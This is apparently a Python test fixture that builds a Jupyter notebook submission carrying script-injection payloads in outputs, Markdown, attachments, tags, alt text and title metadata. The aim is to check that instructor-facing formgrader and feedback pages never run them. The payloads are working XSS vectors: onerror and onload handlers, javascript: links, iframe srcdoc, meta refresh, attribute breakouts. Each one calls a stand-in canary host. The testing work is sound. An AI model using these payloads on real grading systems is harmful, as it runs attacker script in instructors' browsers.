"""Scripts for the pages an instructor opens (formgrader, feedback): a submission with right answers and a script in
every place a page may show, each of which says so if it ever runs."""

from __future__ import annotations

import nbformat

from testbed.hostile.lesson import COURSE, LESSON, notebook, reference
from testbed.hostile.payloads import NAIVE

# Each payload, if it ever runs, says so three ways: a global, the page's title, and a request to CANARY (which no
# one answers; a browser sees the request). It holds no space, comma, double quote or square bracket, so it fits a
# link's address, an attribute, an unquoted attribute and a cell's tag alike.
CANARY, PWNED = "http://canary.invalid", "__pwned"
TITLE_PWNED = "PWNED"


def payload(vector: str) -> str:
    return f"window.{PWNED}=(window.{PWNED}||'')+'{vector}/';document.title='{TITLE_PWNED}';fetch('{CANARY}/{vector}')"


SHOWN_HTML = "bold HTML from the learner"  # what an ordinary part of its HTML display shows, kept
PRINTED = "<script>" + payload("printed") + "</script>"  # what its naive_normalize prints at each call
GUESSED = "<script>" + payload("guessed") + "</script>"  # its guess of a prediction, which the feedback quotes
# a display of each kind the template writes as it is, or an address or attribute taken from output metadata
SCRIPT_DISPLAYS = [
    ({"text/html": f"<b>{SHOWN_HTML}</b><script>{payload('html-script')}</script>"}, {}),
    ({"text/html": f'<img src=x onerror="{payload("html-onerror")}">'}, {}),
    ({"text/html": f'<a href="javascript:{payload("html-link")}">an html link</a>'}, {}),
    ({"application/javascript": payload("javascript")}, {}),
    ({"text/markdown": f'<img src=x onerror="{payload("markdown-display")}">'}, {}),
    ({"text/markdown": f"[a markdown display link](javascript:{payload('markdown-display-link')})"}, {}),
    ({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload("svg")}"><circle r="5"/></svg>'}, {}),
    ({"image/png": f'x" onerror="{payload("png-data")}" y="'}, {}),
    ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": f"1 onerror={payload('png-width')}"}}),
    ({"image/png": "iVBORw0KGgo="}, {"filenames": {"image/png": f"{CANARY}/png-filename"}}),
    ({"text/latex": f"$\\href{{javascript:{payload('latex')}}}{{x}}$"}, {}),
    ({"text/html": f"<script>{payload('isolated-html')}</script>"}, {"text/html": {"isolated": True}}),
]
WIDGET_HTML = f'<img src=x onerror="{payload("widget")}">'
SCRIPTS_IN_OUTPUTS = f"""

import ipywidgets
from IPython.display import display, publish_display_data

for data, metadata in {SCRIPT_DISPLAYS!r}:
    publish_display_data({{"text/plain": "a display", **data}}, metadata)
display(ipywidgets.HTML({WIDGET_HTML!r}))
_divided = naive_normalize


def naive_normalize(scores):
    print({PRINTED!r})
    return _divided(scores)
"""
MARKDOWN_HEADING = "A learner's own notes"
SCRIPTS_IN_MARKDOWN = f"""## {MARKDOWN_HEADING}

<script>{payload("md-script")}</script>

<img src=x onerror="{payload("md-onerror")}">

<svg onload="{payload("md-svg")}"></svg>

<iframe srcdoc="<script>{payload("md-iframe")}</script>"></iframe>

<details open ontoggle="{payload("md-details")}"><summary>a summary</summary>folded</details>

[a javascript link](javascript:{payload("md-link")}) and [an entity link](&#106;avascript:{payload("md-entity")})

<a href="javascript:{payload("md-a")}">a raw link</a> <a href="{CANARY}/md-plain">a plain link</a>

![attached](attachment:a.png)

<link rel="stylesheet" href="{CANARY}/md-stylesheet">

<base href="{CANARY}/md-base/">

<meta http-equiv="refresh" content="0; url={CANARY}/md-refresh">

```mermaid
<img src=x onerror="{payload("md-mermaid")}">
```

Ordinary words, `code with x < y`, and $x^2$.
"""


def _scripts_in_markdown(nb):
    """A Markdown cell of HTML, links and an attachment that could run; tags, alt text and a title that could."""
    cell = nbformat.v4.new_markdown_cell(SCRIPTS_IN_MARKDOWN)
    cell.attachments = {"a.png": {"image/png": f'x" onerror="{payload("attachment")}" y="'}}
    cell.metadata = {
        "tags": [f'"><script>{payload("tag")}</script>', "a score"],
        "alt": f'"><script>{payload("alt")}</script>',
    }
    nb.cells.insert(1, cell)
    nb.metadata["title"] = f"</title><script>{payload('title')}</script>"


def scripts_everywhere() -> bytes:
    """Right answers, with scripts in every place a page may show: displays, printed text, Markdown, attachments,
    metadata, and a guess the feedback quotes (a prediction earns nothing in the corpus: see reference())."""
    guess = next(iter(COURSE.predictions(LESSON).values()))
    return notebook(
        {NAIVE: reference()[NAIVE] + SCRIPTS_IN_OUTPUTS, guess: f"{guess} = {GUESSED!r}"}, edit=_scripts_in_markdown
    )
